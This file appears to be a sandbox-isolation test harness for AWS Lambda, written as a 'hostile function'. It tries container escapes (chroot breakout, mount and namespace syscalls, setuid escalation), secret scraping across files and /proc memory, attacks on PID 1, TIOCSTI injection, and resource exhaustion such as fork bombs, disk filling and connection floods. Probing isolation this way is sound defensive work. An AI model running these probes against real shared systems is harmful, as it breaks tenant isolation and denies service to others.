"""A hostile function. Each attack returns what it reached, so that an empty answer means that the walls held."""

import concurrent.futures
import ctypes
import errno
import fcntl
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long

CLONE_FLAGS = {"mount": 0x20000, "cgroup": 0x02000000, "uts": 0x04000000, "ipc": 0x08000000, "user": 0x10000000,
               "pid": 0x20000000, "net": 0x40000000, "time": 0x80}
# x86-64 below, and the same numbers on both machines from 424 on.
X86 = os.uname().machine == "x86_64"
NUMBERS = {
    "ptrace": 101, "syslog": 103, "personality": 135, "pivot_root": 155, "adjtimex": 159, "chroot": 161, "acct": 163,
    "settimeofday": 164, "mount": 165, "umount2": 166, "swapon": 167, "swapoff": 168, "reboot": 169,
    "sethostname": 170, "setdomainname": 171, "iopl": 172, "ioperm": 173, "init_module": 175, "delete_module": 176,
    "quotactl": 179, "clock_settime": 227, "kexec_load": 246, "add_key": 248, "request_key": 249, "keyctl": 250,
    "unshare": 272, "perf_event_open": 298, "fanotify_init": 300, "name_to_handle_at": 303, "open_by_handle_at": 304,
    "setns": 308, "process_vm_readv": 310, "process_vm_writev": 311, "kcmp": 312, "finit_module": 313,
    "kexec_file_load": 320, "bpf": 321, "userfaultfd": 323, "clone": 56, "mknod": 133, "setuid": 105, "setgid": 106,
    "setgroups": 116, "prctl": 157,
} if X86 else {
    "ptrace": 117, "syslog": 116, "personality": 92, "pivot_root": 41, "adjtimex": 171, "chroot": 51, "acct": 89,
    "settimeofday": 170, "mount": 40, "umount2": 39, "swapon": 224, "swapoff": 225, "reboot": 142,
    "sethostname": 161, "setdomainname": 162, "init_module": 105, "delete_module": 106, "quotactl": 60,
    "clock_settime": 112, "kexec_load": 104, "add_key": 217, "request_key": 218, "keyctl": 219, "unshare": 97,
    "perf_event_open": 241, "fanotify_init": 262, "name_to_handle_at": 264, "open_by_handle_at": 265, "setns": 268,
    "process_vm_readv": 270, "process_vm_writev": 271, "kcmp": 272, "finit_module": 273, "kexec_file_load": 294,
    "bpf": 280, "userfaultfd": 282, "clone": 220, "setuid": 146, "setgid": 144, "setgroups": 159, "prctl": 167,
}
NUMBERS.update({"io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fspick": 433,
                "pidfd_open": 434, "clone3": 435, "pidfd_getfd": 438, "mount_setattr": 442})


def call(name, *arguments):
    """(result, error's name) of a system call; a name that this machine does not have counts as ENOSYS."""
    if name not in NUMBERS:
        return -1, "ENOSYS"
    ctypes.set_errno(0)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *words)
    return result, errno.errorcode.get(ctypes.get_errno(), "?") if result < 0 else ""


def in_child(attempt):
    """What `attempt` returned (text) in a forked child, which it may ruin; "signal N" if it was killed."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(writer, str(attempt()).encode()[:60000])
        finally:
            os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as pipe:
        said = pipe.read().decode()
    _, status = os.waitpid(pid, 0)
    return f"signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else said


# ---------------------------------------------------------------- files

def read(paths):
    found = {}
    for path in paths:
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            found[path] = os.read(descriptor, 200).hex()
        except OSError:
            found[path] = os.listdir(path) if os.path.isdir(path) else "opened"
        os.close(descriptor)
    return found


def writable():
    """Every place outside /tmp and /proc where something can be changed."""
    found = []
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [f for f in folders if f not in ("proc", "tmp")]
        if folder.startswith("/usr/") and folder.count("/") > 2:
            folders[:] = []  # thousands of folders, all of one mount
        probe = os.path.join(folder, ".probe")
        for attempt in (lambda: os.close(os.open(probe, os.O_CREAT | os.O_WRONLY)), lambda: os.mkdir(probe + "-d"),
                        lambda: os.symlink("x", probe + "-l")):
            try:
                attempt()
                found.append(folder)
            except OSError:
                pass
        for name in files[:20]:
            path = os.path.join(folder, name)
            if stat.S_ISREG(os.lstat(path).st_mode):
                for attempt in (lambda: os.close(os.open(path, os.O_WRONLY)), lambda: os.chmod(path, 0o777),
                                lambda: os.unlink(path), lambda: os.utime(path, (0, 0))):
                    try:
                        attempt()
                        found.append(path)
                    except OSError:
                        pass
    return found


def writable_proc():
    """Files of /proc that are not a process's own and can be opened to be written."""
    found = []
    for folder, folders, files in os.walk("/proc"):
        folders[:] = [f for f in folders if not f.isdigit() and f not in ("self", "thread-self")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                found.append(path)
            except OSError:
                pass
    return found


def devices():
    found = []
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [f for f in folders if f not in ("proc", "usr")]
        for name in files:
            path = os.path.join(folder, name)
            mode = os.lstat(path).st_mode
            if stat.S_ISBLK(mode) or stat.S_ISCHR(mode):
                found.append(path)
    for kind, number in ((stat.S_IFBLK, os.makedev(254, 0)), (stat.S_IFCHR, os.makedev(1, 1))):
        try:
            os.mknod("/tmp/device", kind | 0o666, number)
            found.append("mknod")
        except OSError:
            pass
    return found


def search(secret):
    """Where a secret of another function can be read: any file, any process's variables, memory or directories."""
    found = []
    needle = bytes.fromhex(secret)
    own = set()
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [f for f in folders if f not in ("proc", "usr", "dev")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISREG(os.lstat(path).st_mode):
                    with open(path, "rb") as file:
                        if needle in file.read(1 << 22):
                            found.append(path)
            except OSError:
                pass
    pid = os.getpid()
    while pid > 1:
        own.add(str(pid))
        with open(f"/proc/{pid}/status") as status:
            pid = next(int(line.split()[1]) for line in status if line.startswith("PPid"))
    for pid in range(1, 5000):
        if str(pid) in own:
            continue
        for name in ("environ", "cmdline", "maps", "mem", "stack"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    if needle in file.read(1 << 16):
                        found.append(f"/proc/{pid}/{name}")
            except OSError:
                pass
    return found


def descriptors():
    """What was open when the bootstrap began is what its parent still holds; and what this program holds."""
    found = {}
    for pid in ("self", str(os.getppid())):
        for number in os.listdir(f"/proc/{pid}/fd"):
            try:
                found[f"{pid}/{number}"] = os.readlink(f"/proc/{pid}/fd/{number}")
            except OSError:
                pass
    return found


def climb():
    """Ways out of the root: every one that leads to another directory than / itself."""
    found = []
    here = os.stat("/")
    same = lambda path: (os.stat(path).st_dev, os.stat(path).st_ino) == (here.st_dev, here.st_ino)
    if not same("/" + "../" * 100):
        found.append("..")
    for base in ("/tmp", "/var/task", "/opt", "/proc", "/usr"):
        folder = os.open(base, os.O_RDONLY)
        for _ in range(60):
            above = os.open("..", os.O_RDONLY, dir_fd=folder)
            os.close(folder)
            folder = above
        status = os.fstat(folder)
        os.close(folder)
        if (status.st_dev, status.st_ino) != (here.st_dev, here.st_ino):
            found.append("fd .. of " + base)

    def jail():
        os.mkdir("/tmp/jail")
        folder = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(folder)
        for _ in range(60):
            os.chdir("..")
        os.chroot(".")
        return "escaped"
    if "escaped" in in_child(jail):
        found.append("chroot")
    for pid in list(range(1, 3000)):
        for link in ("root", "cwd", "exe"):
            path = f"/proc/{pid}/{link}"
            try:
                if link == "root" and os.path.isdir(path) and not same(path):
                    found.append(path)
                elif link == "cwd" and os.readlink(path).startswith(("/root", "/home", "/work")):
                    found.append(path)
            except OSError:
                pass
    return found


def mounts():
    """Mount calls that worked, and what the list of mounts tells."""
    found = []
    text = b"/tmp"
    attempts = {
        "mount tmpfs": lambda: call("mount", b"x", text, b"tmpfs", 0, b""),
        "bind": lambda: call("mount", b"/", text, b"", 4096, b""),
        "remount /": lambda: call("mount", b"", b"/", b"", 32 | 4096, b""),
        "remount /var/task": lambda: call("mount", b"", b"/var/task", b"", 32 | 4096, b""),
        "mount proc": lambda: call("mount", b"proc", text, b"proc", 0, b""),
        "mount sysfs": lambda: call("mount", b"sysfs", text, b"sysfs", 0, b""),
        "mount cgroup2": lambda: call("mount", b"none", text, b"cgroup2", 0, b""),
        "umount": lambda: call("umount2", b"/proc", 2),
        "pivot_root": lambda: call("pivot_root", b"/tmp", b"/tmp"),
        "open_tree": lambda: call("open_tree", -100, b"/", 1 | 0x80000),
        "fsopen": lambda: call("fsopen", b"tmpfs", 0),
        "fspick": lambda: call("fspick", -100, b"/", 0),
        "mount_setattr": lambda: call("mount_setattr", -100, b"/", 0, ctypes.create_string_buffer(
            struct.pack("QQQQ", 0, 1, 0, 0)), 32),
        "chroot": lambda: call("chroot", b"/tmp"),
    }
    for name, attempt in attempts.items():
        said = in_child(lambda: attempt()[0] if attempt()[0] < 0 else "done")
        if said != "-1":
            found.append(name + ": " + said)
    return found


def setuid():
    """Set-user-id programs, and one made here: whoever becomes root tells."""
    found = []
    programs = []
    for folder in ("/usr/bin", "/usr/sbin", "/bin", "/usr/lib"):
        for where, _, files in os.walk(folder):
            for name in files:
                path = os.path.join(where, name)
                try:
                    if os.lstat(path).st_mode & 0o6000:
                        programs.append(path)
                except OSError:
                    pass
    for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "-t", "tmpfs", "x", "/tmp"],
                    ["pkexec", "id", "-u"], ["newgrp", "root"]):
        try:
            done = subprocess.run(command, capture_output=True, text=True, timeout=10, stdin=subprocess.DEVNULL)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if done.returncode == 0 and done.stdout.strip() in ("0", ""):
            found.append(" ".join(command))
    try:
        own = "/tmp/own-id"
        with open("/usr/bin/id", "rb") as source, open(own, "wb") as target:
            target.write(source.read())
        os.chmod(own, 0o6755)
        said = subprocess.run([own, "-u"], capture_output=True, text=True).stdout.strip()
        if said != str(os.getuid()):
            found.append("own set-user-id program is " + said)
    except OSError:
        pass
    for name in ("setuid", "setgid"):
        if in_child(lambda: call(name, 0)[0]) == "0":
            found.append(name)
    if in_child(lambda: call("setgroups", 1, ctypes.create_string_buffer(struct.pack("I", 0)))[0]) == "0":
        found.append("setgroups")
    with open("/proc/self/status") as status:
        fields = dict(line.split(":", 1) for line in status.read().splitlines())
    return {"became": found, "programs": len(programs), "no_new_privs": fields["NoNewPrivs"].strip(),
            "capabilities": [fields[name].strip() for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")]}


# ---------------------------------------------------------------- processes

def processes():
    """Processes that can be seen but are no descendants of the init, and signals that were accepted."""
    seen = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    reached = []
    for pid in range(2, 33000):
        if pid in seen:
            continue
        try:
            os.kill(pid, 0)
            reached.append(pid)
        except OSError:
            pass
    return {"seen": seen, "reached": reached, "init": in_child(lambda: attack_init())}


def attack_init():
    """What can be done to PID 1, which is not the function's."""
    done = []
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(1, number)
        except OSError:
            pass  # accepted or not: PID 1 must live on, which the next invocation shows
    for name in ("environ", "mem", "maps", "fd", "root", "cwd", "exe", "ns/net"):
        try:
            path = f"/proc/1/{name}"
            os.listdir(path) if name == "fd" else os.readlink(path) if name in ("root", "cwd", "exe", "ns/net") \
                else open(path, "rb").read(1)
            done.append(name)
        except OSError:
            pass
    if call("ptrace", 16, 1, 0, 0)[0] == 0:
        done.append("ptrace")
    memory = ctypes.create_string_buffer(16)
    vector = struct.pack("QQ", ctypes.addressof(memory), 16)
    if call("process_vm_readv", 1, ctypes.create_string_buffer(vector), 1, ctypes.create_string_buffer(vector), 1,
            0)[0] > 0:
        done.append("process_vm_readv")
    handle, _ = call("pidfd_open", 1, 0)
    if handle >= 0 and call("pidfd_getfd", handle, 3, 0)[0] >= 0:
        done.append("pidfd_getfd")
    return done


# ---------------------------------------------------------------- the kernel's doors

def doors():
    """System calls that only a privileged program may make: those that did not fail."""
    attributes = struct.pack("IIQQQQ", 1, 112, 0, 0, 0, 1 | 1 << 5 | 1 << 6) + bytes(72)
    handle = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128))
    number = ctypes.create_string_buffer(8)
    attempts = {
        "init_module": (b"", 0, b""), "finit_module": (0, b"", 0), "delete_module": (b"x", 0),
        "kexec_load": (0, 0, 0, 0), "kexec_file_load": (0, 0, 0, b"", 0), "reboot": (0xfee1dead, 672274793, 0, 0),
        "swapon": (b"/tmp/x", 0), "swapoff": (b"/tmp/x",), "acct": (0,), "sethostname": (b"owned", 5),
        "setdomainname": (b"owned", 5), "iopl": (3,), "ioperm": (0x80, 1, 1), "quotactl": (0x80000200, 0, 0, 0),
        "clock_settime": (0, ctypes.create_string_buffer(struct.pack("QQ", 1, 1))),
        "settimeofday": (ctypes.create_string_buffer(struct.pack("QQ", 1, 1)), 0),
        "syslog": (3, ctypes.create_string_buffer(100), 100), "fanotify_init": (0, 0),
        "bpf": (5, ctypes.create_string_buffer(128), 128),
        "perf_event_open": (ctypes.create_string_buffer(attributes), -1, 0, -1, 0),
        "perf_event_open of its own": None,
        "open_by_handle_at": None,
        "adjtimex": (ctypes.create_string_buffer(struct.pack("I", 1) + bytes(220)),),
        "kcmp": (1, os.getpid(), 0, 0, 0),
        "TIOCSTI": None,
        "user.max_user_namespaces": None,
    }
    found = {}
    for name, arguments in attempts.items():
        if name == "open_by_handle_at":
            if call("name_to_handle_at", -100, b"/", handle, number, 0)[0] < 0:
                continue
            root = os.open("/", os.O_RDONLY)
            said = in_child(lambda: call(name, root, handle, 0))
        elif name == "TIOCSTI":
            def inject():
                terminal = os.open("/dev/tty", os.O_RDWR)
                fcntl.ioctl(terminal, 0x5412, b"x")
                return "(0, )"
            said = in_child(inject) or "(-1, no terminal)"
        elif name == "user.max_user_namespaces":
            def raise_limit():
                with open("/proc/sys/user/max_user_namespaces", "w") as file:
                    file.write("1000")
                return "(0, )"
            said = in_child(raise_limit) or "(-1, )"
        elif arguments is None:
            continue
        else:
            said = in_child(lambda: call(name, *arguments))
        if not said.startswith("(-1,"):
            found[name] = said
    return found


def filtered():
    """System calls that are denied although this kernel has them for everyone: those that did not fail, and errors."""
    attributes = struct.pack("IIQQQQ", 1, 112, 0, 0, 0, 1 | 1 << 5 | 1 << 6) + bytes(72)
    attempts = {
        "userfaultfd": (0x80001,), "io_uring_setup": (8, ctypes.create_string_buffer(120)),
        "keyctl": (0, -3, 1), "add_key": (b"user", b"x", b"y", 1, -2), "request_key": (b"user", b"x", 0, -2),
        "bpf": (0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112)), 128),
        "perf_event_open": (ctypes.create_string_buffer(attributes), 0, -1, -1, 0),
        "ptrace": (16, os.getppid(), 0, 0),
        "clone3": (ctypes.create_string_buffer(struct.pack("Q", CLONE_FLAGS["user"]) + bytes(80)), 88),
    }
    return {name: in_child(lambda: call(name, *arguments)) for name, arguments in attempts.items()}


def namespaces():
    """New namespaces that could be made, and namespaces of others that could be joined."""
    found = []
    for name, flag in CLONE_FLAGS.items():
        for together in (flag, flag | CLONE_FLAGS["user"]):
            if in_child(lambda: call("unshare", together)[0]) == "0":
                found.append(f"unshare {name} {together:x}")

        def clone():
            result, _ = call("clone", flag | CLONE_FLAGS["user"] | signal.SIGCHLD, 0, 0, 0, 0)
            if result == 0:
                os._exit(0)
            return result
        if not in_child(clone).startswith("-"):
            found.append(f"clone {name}")
    for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
        for pid in ("1", "self"):
            def join():
                with open(f"/proc/{pid}/ns/{name}") as file:
                    return call("setns", file.fileno(), 0)[0]
            if in_child(join) == "0":
                found.append(f"setns {pid} {name}")
    return found


def sockets():
    """Socket families that can be opened, as "family type protocol"."""
    found = []
    families = {value: name for name, value in vars(socket).items() if name.startswith("AF_")}
    families[16] = "AF_NETLINK"  # also called AF_ROUTE
    for family in range(1, 46):
        for kind, words in ((socket.SOCK_STREAM, "stream"), (socket.SOCK_DGRAM, "dgram"), (socket.SOCK_RAW, "raw"),
                            (socket.SOCK_SEQPACKET, "seqpacket")):
            protocols = range(0, 23) if family == 16 else (0, 1) if words == "raw" else (0,)
            for protocol in protocols:
                try:
                    socket.socket(family, kind, protocol).close()
                    found.append(f"{families.get(family, family)} {words} {protocol}")
                except OSError:
                    pass
    return found


# ---------------------------------------------------------------- the network

def connect(targets, seconds=2):
    """Which of [[family, address, port]] accepted a connection; "unix" with port 0 is a path, or abstract with @."""
    def accepts(target):
        family, address, port = target
        kind = {"4": socket.AF_INET, "6": socket.AF_INET6, "unix": socket.AF_UNIX}[family]
        try:
            with socket.socket(kind, socket.SOCK_STREAM) as attempt:
                attempt.settimeout(seconds)
                attempt.connect((address, port) if family != "unix" else address.replace("@", "\0", 1))
                return True
        except OSError:
            return False

    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        return [target for target, did in zip(targets, pool.map(accepts, targets)) if did]


def interfaces():
    return [name for _, name in socket.if_nameindex()]


def gateway():
    with open("/proc/net/route") as file:
        for line in file.read().splitlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntoa(bytes.fromhex(fields[2])[::-1])
    return None


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))
        return probe.getsockname()[0]


def listen(port, seconds):
    """Listens on every address; returns who came."""
    with socket.socket() as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("0.0.0.0", port))
        server.listen()
        server.settimeout(seconds)
        print("listening", flush=True)
        try:
            return server.accept()[1]
        except OSError:
            return None


def datagrams(address, port, seconds):
    """Sends one; returns [address, port, words] of each that comes back, and the port that it was sent from."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind(("0.0.0.0", 0))
        one.sendto(b"hello", (address, port))
        one.settimeout(seconds)
        came = []
        try:
            while True:
                words, who = one.recvfrom(100)
                came.append([*who, words.decode()])
        except OSError:
            return {"came": came, "port": one.getsockname()[1]}


def flows(address, port, count):
    """A datagram from each of so many ports."""
    for number in range(count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.bind(("0.0.0.0", 20_000 + number))
            try:
                one.sendto(b"hello", (address, port))
            except OSError:
                pass


def resolve(name):
    try:
        return socket.gethostbyname(name)
    except OSError as error:
        return str(error)


def connections(count, workers):
    """Opens `count` connections to the Runtime API in each of so many processes and holds them together."""
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")

    def open_all():
        kept = []
        for number in range(count):
            try:
                one = socket.create_connection((host, int(port)), timeout=1)
                if number % 2:
                    one.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nX: ")
                kept.append(one)
            except OSError:
                break
        time.sleep(1)
        return len(kept)
    children = []
    for _ in range(workers):
        pid = os.fork()
        if pid == 0:
            try:
                open_all()
            finally:
                os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    return "done"


# ---------------------------------------------------------------- more than its share

def forks(limit):
    count = 0
    try:
        while count < limit:
            if os.fork() == 0:
                signal.pause()
            count += 1
    except OSError as error:
        print(errno.errorcode[error.errno], flush=True)
    return count


def threads(limit):
    stop = threading.Event()
    threading.stack_size(65536)
    count = 0
    try:
        while count < limit:
            threading.Thread(target=stop.wait, daemon=True).start()
            count += 1
    except RuntimeError:
        pass
    stop.set()
    return count


def memory(mebibytes, processes=1):
    """Touches so much, in so many processes."""
    for _ in range(processes - 1):
        if os.fork() == 0:
            kept = [bytearray(b"x") * (1 << 20) for _ in range(mebibytes)]
            signal.pause()
            os._exit(len(kept) & 1)
    kept = [bytearray(b"x") * (1 << 20) for _ in range(mebibytes)]
    if processes > 1:
        time.sleep(30)
    return len(kept)


def open_files():
    kept = []
    try:
        while len(kept) < 100_000:
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        said = errno.errorcode[error.errno]
    for one in kept:
        os.close(one)
    return [len(kept), said]


def fill(mebibytes):
    """[MiB written, error's name] of one file in /tmp, which is removed."""
    written, said = 0, ""
    block = b"\xa5" * (1 << 20)
    with open("/tmp/fill", "wb", buffering=0) as file:
        try:
            while written < mebibytes:
                if file.write(block) < len(block):
                    file.write(block)
                written += 1
        except OSError as error:
            said = errno.errorcode[error.errno]
    os.unlink("/tmp/fill")
    return [written, said]


def inodes(limit):
    """[files made, error's name] of empty files in /tmp, which are removed."""
    made, said = 0, ""
    os.mkdir("/tmp/many")
    try:
        while made < limit:
            os.close(os.open(f"/tmp/many/{made}", os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError as error:
        said = errno.errorcode[error.errno]
    for number in range(made):
        os.unlink(f"/tmp/many/{number}")
    os.rmdir("/tmp/many")
    return [made, said]


def core(mebibytes):
    """A child with so much memory dumps core, having raised its limit as far as it goes; the files that appeared."""
    import resource

    def crash():
        os.chdir("/tmp")
        hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
        kept = [bytearray(b"x") * (1 << 20) for _ in range(mebibytes)]
        os.kill(os.getpid(), signal.SIGSEGV)
        return len(kept)
    said = in_child(crash)
    sizes = {}
    for folder in ("/tmp", "/var/task"):
        for name in os.listdir(folder):
            if "core" in name:
                sizes[name] = os.stat(os.path.join(folder, name)).st_size >> 20
                os.unlink(os.path.join(folder, name))
    return {"said": said, "files": sizes}


def spin(seconds, processes):
    """Burns processor time in so many processes."""
    until = time.monotonic() + seconds
    children = []
    for _ in range(processes - 1):
        pid = os.fork()
        if pid == 0:
            while time.monotonic() < until:
                pass
            os._exit(0)
        children.append(pid)
    while time.monotonic() < until:
        pass
    for pid in children:
        os.waitpid(pid, 0)
    return "spun"


def flood(mebibytes):
    block = (b"f" * 1023 + b"\n") * 1024
    for _ in range(mebibytes):
        os.write(1, block)
    return "flooded"


def zombies(count):
    """Children that are never waited for, and daemons that have left session, group and parent; then the end of all
    that the runtime knows of."""
    for _ in range(count):
        if os.fork() == 0:
            os._exit(0)
    for _ in range(count):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
                ctypes.CDLL(None).prctl(15, b"attackdaemon", 0, 0, 0)
                time.sleep(4000)
            os._exit(0)
    os.kill(os.getppid(), signal.SIGKILL)
    os._exit(3)


def stubborn():
    """Ignores every signal that can be ignored, and never answers."""
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(4001)


def background(mark):
    """Leaves a thread behind that counts, by its processor time, what it burns between invocations."""
    def burn():
        while True:
            pass
    if not any(t.name == mark for t in threading.enumerate()):
        threading.Thread(target=burn, daemon=True, name=mark).start()
    return time.process_time()


def processor_time():
    return time.process_time()


def ping():
    return "pong"


def handler(event, context):
    attack = globals()[event["attack"]]
    return attack(**event.get("with", {}))
